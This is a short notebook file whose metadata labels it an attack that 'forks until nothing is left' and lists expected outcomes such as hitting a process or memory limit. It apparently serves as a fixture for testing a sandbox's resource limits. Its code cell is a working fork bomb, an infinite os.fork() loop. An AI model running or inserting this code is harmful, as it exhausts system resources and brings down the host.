# ---
# jupyter:
#   attack:
#     does: forks until nothing is left
#     statuses: [process limit | memory limit, not run | ok]
# ---

# %%
import os

while True:
    os.fork()

# %%
print("after")
